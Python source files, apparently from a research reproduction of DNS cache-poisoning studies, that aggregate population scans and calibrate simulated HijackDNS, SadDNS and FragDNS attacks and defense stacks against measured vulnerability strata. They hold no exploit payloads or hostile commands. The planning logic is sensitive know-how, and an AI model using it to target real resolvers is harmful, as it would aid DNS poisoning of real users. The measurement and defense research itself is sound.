        if other.kind != self.kind:
            raise ValueError(
                f"cannot merge {other.kind!r} into {self.kind!r}")
        self.count += other.count
        self.flags.update(other.flags)
        self.strata.update(other.strata)
        for name, histogram in other.histograms.items():
            self.histograms.setdefault(name, Counter()).update(histogram)
        return self

    @classmethod
    def merged(cls, kind: str,
               parts: list["ScanAggregate"]) -> "ScanAggregate":
        total = cls(kind=kind)
        for part in parts:
            total.merge(part)
        return total

    # -- reporting -------------------------------------------------------------

    def pct(self, flag: str) -> float:
        return 100.0 * self.flags.get(flag, 0) / self.count \
            if self.count else 0.0

    def flag_names(self) -> tuple[str, ...]:
        return RESOLVER_FLAGS if self.kind == "resolver" else DOMAIN_FLAGS

    def to_summary(self, dataset: str, full_size: int) -> SurveySummary:
        """The same shape the monolithic scanners summarise into."""
        return SurveySummary(
            dataset=dataset, size=self.count, full_size=full_size,
            percentages={flag: self.pct(flag)
                         for flag in self.flag_names()},
        )

    def histogram_fractions(self, name: str) -> dict[int, float]:
        histogram = self.histograms.get(name, Counter())
        total = sum(histogram.values())
        if not total:
            return {}
        return {value: count / total
                for value, count in sorted(histogram.items())}

    # -- persistence -----------------------------------------------------------

    def to_json(self) -> dict:
        return {
            "kind": self.kind,
            "count": self.count,
            "flags": dict(self.flags),
            "strata": dict(self.strata),
            "histograms": {name: {str(value): count
                                  for value, count in histogram.items()}
                           for name, histogram in self.histograms.items()},
        }

    @classmethod
    def from_json(cls, payload: dict) -> "ScanAggregate":
        return cls(
            kind=payload["kind"],
            count=payload["count"],
            flags=Counter(payload.get("flags", {})),
            strata=Counter(payload.get("strata", {})),
            histograms={
                name: Counter({int(value): count
                               for value, count in histogram.items()})
                for name, histogram in payload.get("histograms", {}).items()
            },
        )
