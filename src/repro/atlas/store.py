"""Persistent, append-only shard-result store.

One JSON-lines file per population (named by its spec hash); each line
is one completed shard's aggregate keyed by ``(spec_hash, shard_id)``.
Appending is the only write operation, so a killed scan leaves at worst
one truncated final line — which the loader skips — and every earlier
shard stays durable.  Rerunning the scan then recomputes *only* the
missing shards (see :mod:`repro.atlas.pipeline`).

When the same shard appears twice (e.g. a scan raced its own retry),
the last complete record wins; the ranges recorded per shard are
validated against the requested shard layout on resume, so a store
written under a different ``--shards`` value is recomputed rather than
mis-merged.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path

from repro.atlas.aggregate import ScanAggregate


@dataclass
class ShardRecord:
    """One shard's scan outcome, as persisted."""

    spec_hash: str
    shard_id: int
    dataset: str
    kind: str
    lo: int
    hi: int
    wall_time: float
    aggregate: ScanAggregate

    def to_json(self) -> dict:
        return {
            "spec_hash": self.spec_hash,
            "shard_id": self.shard_id,
            "dataset": self.dataset,
            "kind": self.kind,
            "lo": self.lo,
            "hi": self.hi,
            "wall_time": self.wall_time,
            "aggregate": self.aggregate.to_json(),
        }

    @classmethod
    def from_json(cls, payload: dict) -> "ShardRecord":
        return cls(
            spec_hash=payload["spec_hash"],
            shard_id=payload["shard_id"],
            dataset=payload["dataset"],
            kind=payload["kind"],
            lo=payload["lo"],
            hi=payload["hi"],
            wall_time=payload["wall_time"],
            aggregate=ScanAggregate.from_json(payload["aggregate"]),
        )


class AtlasStore:
    """Append-only JSONL store of shard aggregates under one directory."""

    def __init__(self, root: str | os.PathLike):
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)

    def path_for(self, spec_hash: str) -> Path:
        return self.root / f"{spec_hash}.jsonl"

    def append(self, record: ShardRecord) -> None:
        """Durably append one completed shard."""
        path = self.path_for(record.spec_hash)
        line = json.dumps(record.to_json(), sort_keys=True)
        with path.open("a", encoding="utf-8") as handle:
            handle.write(line + "\n")
            handle.flush()
            os.fsync(handle.fileno())

    def load(self, spec_hash: str) -> dict[int, ShardRecord]:
        """All complete shard records for one population (last wins)."""
        path = self.path_for(spec_hash)
        records: dict[int, ShardRecord] = {}
        if not path.exists():
            return records
        with path.open("r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if not line:
                    continue
                try:
                    payload = json.loads(line)
                    record = ShardRecord.from_json(payload)
                except (json.JSONDecodeError, KeyError):
                    # A scan killed mid-append leaves one partial final
                    # line; treat it as a missing shard, not corruption.
                    continue
                if record.spec_hash == spec_hash:
                    records[record.shard_id] = record
        return records

    def spec_hashes(self) -> list[str]:
        """Every population with at least one stored shard."""
        return sorted(path.stem for path in self.root.glob("*.jsonl"))
