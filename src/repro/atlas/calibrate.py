"""Campaign calibration bridge: scanned strata -> executed scenarios.

A population scan ends with *measured* vulnerability strata (which
fraction of entities is hijackable, SadDNS-scannable, fragmentable, in
every combination).  This module closes the loop the paper closes with
its end-to-end attacks: each stratum becomes a
:class:`repro.attacks.planner.TargetProfile` whose infrastructure facts
mirror the stratum's flags, the planner bridge maps it onto an
executable scenario, and a stratified :class:`repro.scenario.Campaign`
sub-sample runs the attacks — so the planner's Table 1 verdicts are
validated against simulated outcomes *at population scale*:

* a stratum flagged ``hijack`` must succeed deterministically under
  HijackDNS (and fail when capture is impossible);
* ``saddns``/``frag`` strata must be planner-applicable and execute,
  with hitrates reported against the Table 6 expectations;
* methods whose prerequisite flag is *absent* must be planner-rejected
  — the scan's negative verdicts are validated too;
* the ``none`` stratum must raise
  :class:`repro.core.errors.NotApplicableError` for every off-path
  methodology.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field, replace
from typing import Any

from repro.apps.driver import AppSpec, resolve_driver
from repro.attacks.fragdns import FragDnsConfig
from repro.attacks.planner import (
    METHOD_PREFERENCE,
    AttackPlanner,
    TargetProfile,
)
from repro.attacks.saddns import SadDnsConfig
from repro.atlas.aggregate import STRATUM_FLAGS, ScanAggregate
from repro.core.errors import NotApplicableError
from repro.defenses.base import DefenseStack
from repro.scenario.bridge import profile_world_kwargs, scenario_from_profile
from repro.scenario.campaign import Campaign
from repro.scenario.presets import FAST_SADDNS_PORTS
from repro.scenario.spec import AttackScenario, TriggerSpec

#: Scan flag -> the methodology whose prerequisite it measures.
FLAG_METHODS = {"hijack": "HijackDNS", "saddns": "SadDNS",
                "frag": "FragDNS"}


def profile_for_stratum(stratum: str) -> TargetProfile:
    """A Table 1 target whose infrastructure mirrors one stratum.

    Every planner-relevant fact is set from the stratum's flags, so the
    planner's applicability reasoning runs against exactly what the
    scanners measured.
    """
    flags = set() if stratum == "none" else set(stratum.split("+"))
    unknown = flags - set(STRATUM_FLAGS)
    if unknown:
        raise ValueError(f"unknown stratum flags: {sorted(unknown)}")
    # Start from the canonical standard-infrastructure assumption and
    # overwrite every fact a scan flag measures; only the facts no scan
    # covers (here: dnssec_validated) keep their default.
    facts = TargetProfile.defaults()
    facts.update(
        resolver_prefix_longer_than_24="hijack" in flags,
        ns_prefix_longer_than_24="hijack" in flags,
        resolver_global_icmp_limit="saddns" in flags,
        ns_rate_limited="saddns" in flags,
        ns_honours_ptb="frag" in flags,
        response_can_exceed_frag_limit="frag" in flags,
        resolver_edns_at_least_response="frag" in flags,
        resolver_accepts_fragments="frag" in flags,
    )
    return TargetProfile(
        app_name=f"atlas-{stratum}",
        query_name_known=True,
        query_name_choosable=True,
        trigger_style="direct",
        **facts,
    )


def _budget_overrides(method: str, profile: TargetProfile) -> dict[str, Any]:
    """Budget-capped attack configs so stratified sub-samples run fast.

    Mirrors :func:`repro.scenario.presets.sweep_scenarios`: mechanics
    unchanged, budgets capped so each run finishes in well under a
    second of wall time.
    """
    if method == "SadDNS":
        base = profile_world_kwargs(profile)["resolver_host_config"]
        return {
            "attack_config": SadDnsConfig(max_iterations=1,
                                          scan_batches_per_iteration=2),
            "resolver_host_config": replace(
                base, ephemeral_low=FAST_SADDNS_PORTS[0],
                ephemeral_high=FAST_SADDNS_PORTS[1]),
        }
    if method == "FragDNS":
        return {"attack_config": FragDnsConfig(max_attempts=3,
                                               attempt_spacing=0.2)}
    return {}


@dataclass
class StratumCalibration:
    """One stratum's planner verdict and campaign outcome."""

    stratum: str
    count: int
    weight: float
    candidates: tuple[str, ...]
    chosen_method: str | None
    planner_applicable: bool
    rejected_methods: tuple[str, ...]
    runs: int = 0
    successes: int = 0
    validated: bool = False
    note: str = ""
    app: str | None = None
    app_note: str = ""          # app-stage caveat, rendered after note
    app_runs: int = 0
    impacts_realized: int = 0

    @property
    def success_rate(self) -> float:
        return self.successes / self.runs if self.runs else 0.0

    @property
    def impact_rate(self) -> float:
        """Realized application impact across this stratum's sub-sample."""
        return self.impacts_realized / self.app_runs if self.app_runs \
            else 0.0


@dataclass
class CalibrationReport:
    """Stratified end-to-end validation of one scanned population."""

    dataset: str
    kind: str
    entities: int
    sample_budget: int
    strata: list[StratumCalibration]
    wall_clock: float = 0.0
    executor: str = "serial"
    workers: int = 1
    notes: list[str] = field(default_factory=list)
    app: str | None = None
    defenses: str = "none"      # deployed defense-stack key

    @property
    def validated_fraction(self) -> float:
        """Population weight living in strata whose verdicts validated."""
        total = sum(s.weight for s in self.strata)
        if not total:
            return 0.0
        return sum(s.weight for s in self.strata if s.validated) / total

    @property
    def impact_projection(self) -> float:
        """Population-weighted realized-impact rate for the chosen app.

        Each stratum's measured impact rate (from its stratified
        sub-sample) is weighted by the stratum's share of the full
        scanned population — the §4.5 quantitative story: what fraction
        of the real dataset would yield this application impact if
        attacked with the best applicable methodology.
        """
        total = sum(s.weight for s in self.strata)
        if not total:
            return 0.0
        return sum(s.weight * s.impact_rate for s in self.strata) / total

    def describe(self) -> str:
        from repro.measurements.report import render_table

        headers = ["Stratum", "Entities", "Weight", "Method",
                   "Runs", "Success", "Validated", "Note"]
        if self.app is not None:
            headers.insert(6, "Impact")
        rows = []
        for stratum in sorted(self.strata, key=lambda s: -s.count):
            row = [
                stratum.stratum, f"{stratum.count:,}",
                f"{stratum.weight * 100:.1f}%",
                stratum.chosen_method or "-",
                stratum.runs,
                f"{stratum.success_rate * 100:.0f}%"
                if stratum.runs else "-",
                "yes" if stratum.validated else "NO",
                stratum.note + stratum.app_note,
            ]
            if self.app is not None:
                row.insert(6, f"{stratum.impact_rate * 100:.0f}%"
                           if stratum.app_runs else "-")
            rows.append(row)
        defended = f", defended by {self.defenses}" \
            if self.defenses != "none" else ""
        table = render_table(
            headers, rows,
            title=f"Campaign calibration: {self.dataset} "
                  f"({self.entities:,} scanned entities{defended})")
        footer = (f"{self.validated_fraction * 100:.1f}% of the population "
                  f"sits in validated strata; {sum(s.runs for s in self.strata)}"
                  f" attack runs in {self.wall_clock:.1f}s"
                  f" ({self.executor}, workers={self.workers})")
        lines = [table, footer]
        if self.app is not None:
            driver = resolve_driver(self.app)
            lines.append(
                f"population-weighted impact projection for "
                f"{self.app!r} ({driver.impact}): "
                f"{self.impact_projection * 100:.1f}% of "
                f"{self.entities:,} entities")
        lines.extend(f"note: {note}" for note in self.notes)
        return "\n".join(lines)


def calibrate_population(aggregate: ScanAggregate, dataset: str,
                         seed: Any = 0, sample_budget: int = 24,
                         workers: int | None = None,
                         executor: str | None = None,
                         app: str | None = None,
                         defenses: DefenseStack | None = None,
                         store: Any = None) -> CalibrationReport:
    """Validate planner verdicts against a stratified attack sub-sample.

    ``sample_budget`` caps the total number of end-to-end attack runs;
    it is allocated across attackable strata proportionally to their
    population weight (each non-empty stratum gets at least one run).
    All cells run on one campaign pool, so ``workers`` parallelises the
    validation exactly like any other campaign (``executor`` defaults
    to the process pool whenever more than one worker is requested).

    ``app`` names a Table 1 application driver: every stratum's attack
    runs then carry that application's kill-chain stage (restricted to
    the methodologies whose planted records the workload can observe),
    and the report weights the measured impact rates by population
    share into :attr:`CalibrationReport.impact_projection`.

    ``defenses`` deploys a :class:`repro.defenses.DefenseStack` across
    the whole population: each stratum's verdict becomes defense-aware
    (methodologies the stack kills are planner-rejected) and the
    sub-sample runs against *defended* worlds, measuring the residual
    success the stack leaves.  Strata the stack fully neutralizes run
    nothing and are validated through the planner's rejection — the
    campaign counterpart of :func:`project_deployment`.

    ``store`` (a :class:`repro.store.RunStore` or a path) forwards to
    the underlying campaign: every sub-sample cell is recorded, and a
    re-calibration over the same population loads the stored cells
    instead of re-running them — a killed calibration resumes with only
    the missing cells recomputed, yielding an identical report.
    """
    if executor is None:
        executor = "process" if workers is not None and workers > 1 \
            else "serial"
    app_driver = resolve_driver(app) if app is not None else None
    planner = AttackPlanner()
    total = sum(aggregate.strata.values())
    strata: list[StratumCalibration] = []
    pairs: list[tuple[AttackScenario, Any]] = []
    started = time.perf_counter()

    for stratum, count in sorted(aggregate.strata.items(),
                                 key=lambda item: -item[1]):
        if count <= 0:
            continue
        weight = count / total if total else 0.0
        flags = set() if stratum == "none" else set(stratum.split("+"))
        candidates = tuple(method for method in METHOD_PREFERENCE
                           if method in {FLAG_METHODS[f] for f in flags})
        profile = profile_for_stratum(stratum)
        verdict = planner.assess(profile)
        rejected = tuple(
            name for name, choice in verdict.choices.items()
            if not choice.applicable
        )
        record = StratumCalibration(
            stratum=stratum, count=count, weight=weight,
            candidates=candidates, chosen_method=None,
            planner_applicable=False, rejected_methods=rejected,
        )
        # The scan's *negative* verdicts must be planner-rejections:
        # a method whose prerequisite flag is absent may not be
        # applicable (HijackDNS is exempt — interception survives /24
        # announcements, only DNSSEC blocks it outright).
        negatives_hold = all(
            verdict.choices[FLAG_METHODS[flag]].applicable == (flag in flags)
            for flag in ("saddns", "frag")
        )
        if not candidates:
            try:
                scenario_from_profile(profile, planner=planner,
                                      candidates=("SadDNS", "FragDNS"))
                record.note = "off-path scenario built despite clean scan"
                record.validated = False
            except NotApplicableError:
                record.note = "no methodology applies (planner agrees)"
                record.validated = negatives_hold
            strata.append(record)
            continue
        scenario_candidates = candidates
        attach_app = False
        if app_driver is not None:
            executable = tuple(method for method in candidates
                               if method in app_driver.methods)
            if executable:
                scenario_candidates = executable
                attach_app = True
            else:
                record.app_note = (
                    f"; {app_driver.name} workload not executable"
                    f" under {'/'.join(candidates)}")
        try:
            scenario = scenario_from_profile(
                profile, planner=planner, candidates=scenario_candidates,
                defenses=defenses, label=f"atlas/{stratum}",
            )
        except NotApplicableError:
            # Only reachable with a defense stack: the scan flags made
            # the undefended candidates applicable, so a rejection here
            # means the stack neutralizes this stratum outright.
            record.note = ("defense stack neutralizes this stratum "
                           "(planner rejects every scanned methodology)")
            record.validated = negatives_hold
            strata.append(record)
            continue
        record.chosen_method = scenario.canonical_method
        record.planner_applicable = True
        overrides = _budget_overrides(record.chosen_method, profile)
        if overrides:
            scenario = replace(scenario, **overrides)
        if attach_app:
            record.app = app_driver.name
            scenario = replace(scenario,
                               app_spec=AppSpec(app=app_driver.name),
                               trigger=TriggerSpec(kind="app"))
        runs = max(1, round(sample_budget * weight))
        seeds = [f"{seed}/{stratum}/{index}" for index in range(runs)]
        pairs.extend((scenario, run_seed) for run_seed in seeds)
        record.runs = runs
        record.note = "planner verdicts mirror scan flags" \
            if negatives_hold else "planner/scan disagreement"
        record.validated = negatives_hold
        strata.append(record)

    campaign_executor = executor
    outcome = None
    if pairs:
        outcome = Campaign(workers=workers,
                           executor=campaign_executor).run_pairs(
                               pairs, store=store)
        by_label = outcome.by_label()
        for record in strata:
            summary = by_label.get(f"atlas/{record.stratum}")
            if summary is None:
                continue
            record.successes = summary.successes
            record.app_runs = summary.app_runs
            record.impacts_realized = summary.impacts_realized
            if record.chosen_method == "HijackDNS":
                # Control-plane interception is deterministic: the
                # simulated outcome must match the scan flag exactly.
                record.validated = record.validated and \
                    summary.success_rate == 1.0
                record.note = (f"deterministic capture "
                               f"{summary.success_rate * 100:.0f}%"
                               if record.validated else
                               "hijack did not capture despite scan flag")
            else:
                hitrate = summary.success_rate
                record.note = (f"probabilistic; per-seed success "
                               f"{hitrate * 100:.0f}% (budget-capped)")
    report = CalibrationReport(
        dataset=dataset,
        kind=aggregate.kind,
        entities=aggregate.count,
        sample_budget=sample_budget,
        strata=strata,
        wall_clock=time.perf_counter() - started,
        executor=outcome.executor if outcome else "serial",
        workers=outcome.workers if outcome else 1,
        notes=list(outcome.notes) if outcome else [],
        app=app_driver.name if app_driver is not None else None,
        defenses=defenses.key if defenses is not None else "none",
    )
    return report


# -- deployment projection ------------------------------------------------------


@dataclass
class StratumProjection:
    """One stratum's undefended/defended best-methodology verdicts."""

    stratum: str
    count: int
    weight: float
    undefended: str | None            # best applicable method, if any
    residual: dict[str, str | None] = field(default_factory=dict)

    def neutralized_by(self, stack_key: str) -> bool:
        """Whether the stack removes every applicable methodology.

        Raises ``KeyError`` for a stack that was never projected — a
        missing key must not read as "neutralized".
        """
        return self.undefended is not None \
            and self.residual[stack_key] is None


@dataclass
class DeploymentProjection:
    """What each defense stack neutralizes, at population scale.

    The quantitative table the paper's Section 6 only gestures at: for
    every vulnerability stratum of a scanned population (weights sum to
    100%), which methodology the planner would use undefended, and what
    — if anything — remains once each candidate defense stack is
    deployed.  Verdicts are planner-level, so the projection covers the
    *entire* scanned population (millions of entities), not a
    sub-sample; :func:`calibrate_population` with ``defenses=`` is the
    simulation-backed counterpart on the stratified sub-sample.
    """

    dataset: str
    kind: str
    entities: int
    stacks: list[str]
    strata: list[StratumProjection]

    @property
    def attackable_weight(self) -> float:
        """Population fraction with any applicable methodology."""
        return sum(s.weight for s in self.strata
                   if s.undefended is not None)

    def neutralized_weight(self, stack_key: str) -> float:
        """Population fraction the stack fully neutralizes."""
        if stack_key not in self.stacks:
            raise KeyError(
                f"stack {stack_key!r} was not projected; "
                f"projected stacks: {self.stacks}")
        return sum(s.weight for s in self.strata
                   if s.neutralized_by(stack_key))

    def neutralized_surface(self, stack_key: str) -> float:
        """Fraction of the *attackable* surface the stack neutralizes."""
        attackable = self.attackable_weight
        if not attackable:
            return 0.0
        return self.neutralized_weight(stack_key) / attackable

    def describe(self) -> str:
        from repro.measurements.report import render_table

        headers = (["Stratum", "Entities", "Weight", "Undefended"]
                   + [f"vs {key}" for key in self.stacks])
        rows = []
        for stratum in sorted(self.strata, key=lambda s: -s.count):
            row = [
                stratum.stratum, f"{stratum.count:,}",
                f"{stratum.weight * 100:.1f}%",
                stratum.undefended or "-",
            ]
            for key in self.stacks:
                residual = stratum.residual.get(key)
                if stratum.undefended is None:
                    row.append("-")
                else:
                    row.append(residual if residual is not None
                               else "neutralized")
            rows.append(row)
        total = sum(s.weight for s in self.strata)
        rows.append(["TOTAL", f"{self.entities:,}",
                     f"{total * 100:.1f}%",
                     f"{self.attackable_weight * 100:.1f}% attackable",
                     *[f"{self.neutralized_weight(key) * 100:.1f}% "
                       "neutralized" for key in self.stacks]])
        table = render_table(
            headers, rows,
            title=f"Deployment projection: {self.dataset} "
                  f"({self.entities:,} entities)")
        lines = [table]
        for key in self.stacks:
            lines.append(
                f"stack {key}: neutralizes "
                f"{self.neutralized_weight(key) * 100:.1f}% of the "
                f"population ({self.neutralized_surface(key) * 100:.1f}%"
                " of the attackable surface)")
        return "\n".join(lines)


def project_deployment(aggregate: ScanAggregate, dataset: str,
                       stacks: list[DefenseStack]) -> DeploymentProjection:
    """Project defense stacks over a scanned population's strata.

    For every stratum the (defense-aware) planner picks the best still-
    applicable methodology among the ones the scan flagged — exactly the
    candidate rule :func:`calibrate_population` uses — so the table
    reports, per stack, the residual methodology per stratum and the
    population weight it fully neutralizes.  Planner verdicts are pure
    rule evaluation: the projection runs at full population scale for
    free, weights summing to 100% over all strata.
    """
    planner = AttackPlanner()
    total = sum(aggregate.strata.values())
    strata: list[StratumProjection] = []
    for stratum, count in sorted(aggregate.strata.items(),
                                 key=lambda item: -item[1]):
        if count <= 0:
            continue
        flags = set() if stratum == "none" else set(stratum.split("+"))
        candidates = {FLAG_METHODS[flag] for flag in flags}
        profile = profile_for_stratum(stratum)

        def best(verdict) -> str | None:
            for method in METHOD_PREFERENCE:
                if method not in candidates:
                    continue
                choice = verdict.choices.get(method)
                if choice is not None and choice.applicable:
                    return method
            return None

        projection = StratumProjection(
            stratum=stratum, count=count,
            weight=count / total if total else 0.0,
            undefended=best(planner.assess(profile)),
        )
        for stack in stacks:
            projection.residual[stack.key] = best(
                planner.plan(profile, defenses=stack))
        strata.append(projection)
    return DeploymentProjection(
        dataset=dataset, kind=aggregate.kind, entities=aggregate.count,
        stacks=[stack.key for stack in stacks], strata=strata,
    )
