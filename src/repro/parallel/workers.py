"""Shared worker-count resolution for every parallel entry point.

One resolver replaces the ad-hoc ``min(8, os.cpu_count())`` defaults
scattered through the CLI, pipeline, campaign runner and benchmarks:

* an explicit integer (or numeric string from argparse) wins,
* ``"auto"`` means all schedulable CPUs,
* ``None`` keeps the historical capped default,
* the ``REPRO_WORKERS`` environment variable overrides the *defaults*
  (``auto``/``None``) without touching explicit requests — handy for
  CI runners and shared hosts.
"""

from __future__ import annotations

import os

#: Cap applied to the implicit (``workers=None``) default, matching the
#: historical behaviour; ``auto`` and explicit counts are uncapped.
DEFAULT_CAP = 8

ENV_VAR = "REPRO_WORKERS"


def cpu_count() -> int:
    """Schedulable CPUs: ``os.process_cpu_count`` honours affinity
    masks (cgroup-pinned CI runners); older Pythons fall back."""
    counter = getattr(os, "process_cpu_count", None)
    count = counter() if counter is not None else None
    return count or os.cpu_count() or 1


def parse_workers(value: str) -> int | str:
    """argparse type for ``--workers``: a count or ``auto``.

    Every CLI (atlas, scenario, serve, the parallel plane, the bench
    harness) funnels through this one parser so ``--workers auto``
    means the same thing everywhere; resolution to a concrete count
    happens later, in :func:`resolve_workers`.
    """
    if value.strip().lower() == "auto":
        return "auto"
    return int(value)


def resolve_workers(workers: int | str | None = None,
                    cap: int | None = DEFAULT_CAP) -> int:
    """Resolve a worker-count request to a concrete positive integer."""
    if isinstance(workers, str):
        text = workers.strip().lower()
        workers = "auto" if text == "auto" else int(text)
    if workers is None or workers == "auto":
        env = os.environ.get(ENV_VAR)
        if env is not None and env.strip():
            workers = int(env)
        elif workers == "auto":
            return cpu_count()
        else:
            count = cpu_count()
            return min(cap, count) if cap is not None else count
    if workers < 1:
        raise ValueError(f"workers must be >= 1, got {workers}")
    return int(workers)
