"""Lockstep Mersenne Twister: B generator states advanced columnwise.

The scan kernel's cost is dominated by *seeding*: every atlas entity
derives its own :class:`random.Random` from 32 bytes of SHA-256
material, and CPython's ``init_by_array`` walk (1,247 sequential state
updates) costs more than all of the entity's draws combined.  This
module runs that walk for a whole batch of streams at once: the state
is a ``(624, B)`` uint32 matrix and each scalar update becomes one
vector operation over all B streams — bit-identical to seeding B
independent ``random.Random`` instances, at a fraction of the per-
stream cost.

Output generation mirrors CPython exactly: after seeding, ``mti`` sits
at 624, so the first tempered outputs come from a (partial) twist of
the freshly seeded state.  :meth:`LockstepMT.words` materialises
tempered outputs row-by-row — row *k* holds every stream's *k*-th
``getrandbits(32)`` — growing lazily because most scan entities consume
a dozen words while the occasional rejection-loop straggler needs a few
more.

Exactness boundary: CPython builds the ``init_by_array`` key from the
seed integer's 32-bit digits, so a seed whose *top* 32 bits are zero
(probability 2^-32 for SHA-256 material) yields a shorter key than the
lockstep 8-word layout assumes.  Those streams are flagged in
:attr:`LockstepMT.irregular` and must be handled by a scalar fallback;
the vector path never silently mis-seeds them.
"""

from __future__ import annotations

try:
    import numpy as np
except ImportError:          # pragma: no cover - exercised via HAVE_NUMPY
    np = None

HAVE_NUMPY = np is not None

N_MT = 624          # state words per stream
M_MT = 397          # twist offset
_PARTIAL_LIMIT = N_MT - M_MT  # rows producible before a full twist: 227

if HAVE_NUMPY:
    _MATRIX_A = np.uint32(0x9908B0DF)
    _UPPER = np.uint32(0x80000000)
    _LOWER = np.uint32(0x7FFFFFFF)
    _ONE = np.uint32(1)

    def _init_genrand_column() -> "np.ndarray":
        """The init_genrand(19650218) state shared by every stream."""
        init = [19650218]
        for i in range(1, N_MT):
            prev = init[i - 1]
            init.append(
                (1812433253 * (prev ^ (prev >> 30)) + i) & 0xFFFFFFFF)
        return np.array(init, dtype=np.uint32)

    _INIT_COLUMN = None

    def _init_column() -> "np.ndarray":
        global _INIT_COLUMN
        if _INIT_COLUMN is None:
            _INIT_COLUMN = _init_genrand_column()
        return _INIT_COLUMN


def key_words(materials: "np.ndarray | bytes") -> "np.ndarray":
    """``(8, B)`` init_by_array key words for 32-byte seed materials.

    ``materials`` is the concatenated seed bytes (B * 32).  CPython
    seeds from ``int.from_bytes(material, "big")`` and splits that
    integer into little-endian 32-bit digits, which is exactly the
    big-endian word view reversed.
    """
    words = np.frombuffer(bytes(materials), dtype=">u4").reshape(-1, 8)
    return np.ascontiguousarray(words[:, ::-1].T.astype(np.uint32))


def seed_states(key: "np.ndarray") -> "np.ndarray":
    """Run init_by_array for B lockstep streams: key ``(key_len, B)``.

    Returns the seeded state matrix ``(624, B)`` with the implicit
    generator position at 624 (a twist precedes the first output),
    matching ``random.Random(seed_int)`` for every stream whose key
    really is ``key_len`` words (see :attr:`LockstepMT.irregular`).
    """
    key_len, batch = key.shape
    mt = np.empty((N_MT, batch), dtype=np.uint32)
    mt[:] = _init_column()[:, None]
    # key[j] + j is loop-invariant per key row; hoist the add.
    keyj = [key[j] + np.uint32(j) for j in range(key_len)]
    scratch = np.empty(batch, dtype=np.uint32)
    i = 1
    j = 0
    for _step in range(max(N_MT, key_len)):
        prev = mt[i - 1]
        np.right_shift(prev, np.uint32(30), out=scratch)
        np.bitwise_xor(prev, scratch, out=scratch)
        np.multiply(scratch, np.uint32(1664525), out=scratch)
        np.bitwise_xor(mt[i], scratch, out=scratch)
        np.add(scratch, keyj[j], out=mt[i])
        i += 1
        j += 1
        if i >= N_MT:
            mt[0] = mt[N_MT - 1]
            i = 1
        if j >= key_len:
            j = 0
    for _step in range(N_MT - 1):
        prev = mt[i - 1]
        np.right_shift(prev, np.uint32(30), out=scratch)
        np.bitwise_xor(prev, scratch, out=scratch)
        np.multiply(scratch, np.uint32(1566083941), out=scratch)
        np.bitwise_xor(mt[i], scratch, out=scratch)
        np.subtract(scratch, np.uint32(i), out=mt[i])
        i += 1
        if i >= N_MT:
            mt[0] = mt[N_MT - 1]
            i = 1
    mt[0] = np.uint32(0x80000000)
    return mt


def _temper(y: "np.ndarray") -> "np.ndarray":
    y = y ^ (y >> np.uint32(11))
    y = y ^ ((y << np.uint32(7)) & np.uint32(0x9D2C5680))
    y = y ^ ((y << np.uint32(15)) & np.uint32(0xEFC60000))
    return y ^ (y >> np.uint32(18))


def _twist_rows(mt: "np.ndarray", lo: int, hi: int) -> "np.ndarray":
    """Tempered outputs ``lo..hi`` of the first block (hi <= 227).

    Rows below :data:`_PARTIAL_LIMIT` only read the *seeded* state, so
    they can be produced without committing the full twist.
    """
    y = (mt[lo:hi] & _UPPER) | (mt[lo + 1:hi + 1] & _LOWER)
    out = mt[M_MT + lo:M_MT + hi] ^ (y >> _ONE) ^ ((y & _ONE) * _MATRIX_A)
    return _temper(out)


def _full_twist(mt: "np.ndarray") -> None:
    """Advance the state matrix by one whole twist, in place.

    The reference loop is self-referential past index 454 (it reads
    values the same pass already wrote), so the vector form runs in
    four dependency-ordered chunks.
    """
    def turn(lo: int, hi: int, src_lo: int) -> None:
        y = (mt[lo:hi] & _UPPER) | (mt[lo + 1:hi + 1] & _LOWER)
        mt[lo:hi] = mt[src_lo:src_lo + hi - lo] ^ (y >> _ONE) \
            ^ ((y & _ONE) * _MATRIX_A)

    turn(0, 227, M_MT)          # reads only pre-twist state
    turn(227, 454, 0)           # reads chunk-1 results
    turn(454, 623, 227)         # reads chunk-2 results
    y = (mt[N_MT - 1] & _UPPER) | (mt[0] & _LOWER)
    mt[N_MT - 1] = mt[M_MT - 1] ^ (y >> _ONE) ^ ((y & _ONE) * _MATRIX_A)


class WordBudgetExceeded(Exception):
    """A stream consumed more than one twist block of outputs.

    The scan kernel sizes its blocks generously (no legitimate entity
    draw sequence approaches 624 words), so this only fires for the
    astronomically improbable rejection-loop runaway — which then takes
    the scalar fallback rather than an inexact vector result.
    """


class LockstepMT:
    """B bit-identical MT19937 streams with lazily grown output rows."""

    __slots__ = ("batch", "irregular", "_mt", "_out", "_rows", "_twisted")

    def __init__(self, materials: bytes | bytearray):
        """``materials`` holds B concatenated 32-byte seed digests."""
        key = key_words(materials)
        self.batch = key.shape[1]
        # CPython's key drops leading zero 32-bit digits: a material
        # whose top word is zero seeds with a shorter key than the
        # lockstep layout.  Flag those streams for the scalar path.
        self.irregular = np.flatnonzero(key[7] == 0)
        self._mt = seed_states(key)
        self._out: "np.ndarray | None" = None
        self._rows = 0
        self._twisted = False

    def words(self, rows: int) -> "np.ndarray":
        """Tempered output matrix with at least ``rows`` rows.

        Row *k*, column *s* is stream *s*'s ``getrandbits(32)`` number
        *k*.  Grows in place; previously returned rows keep their
        values.  Raises :class:`WordBudgetExceeded` past one block.
        """
        if rows <= self._rows:
            return self._out
        if rows > N_MT:
            raise WordBudgetExceeded(rows)
        if rows <= _PARTIAL_LIMIT and not self._twisted:
            grown = np.empty((rows, self.batch), dtype=np.uint32)
            if self._rows:
                grown[:self._rows] = self._out[:self._rows]
            grown[self._rows:] = _twist_rows(self._mt, self._rows, rows)
            self._out = grown
            self._rows = rows
            return self._out
        # Commit the full twist once; every row of the block is then
        # one temper away.  (The partial rows already handed out are a
        # prefix of the same block, so values never change.)
        if not self._twisted:
            _full_twist(self._mt)
            self._twisted = True
            self._out = _temper(self._mt)
            self._rows = N_MT
        return self._out
