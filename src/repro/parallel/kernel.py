"""Batch-vectorised atlas scan kernel.

The per-entity scan is a pure function of the entity's derived RNG
stream, so instead of materialising profiles one at a time the kernel
synthesises *columns* — one attribute array per draw over a whole batch
of entities — and evaluates the Section 5 verdict predicates over the
columns.  The RNG streams run in lockstep on a
:class:`repro.parallel.mt.LockstepMT` state matrix, consuming words in
exactly the order the scalar kernels
(:func:`repro.measurements.population.draw_resolver_profile` /
:func:`draw_domain_profile` plus the pruned SadDNS replay) consume
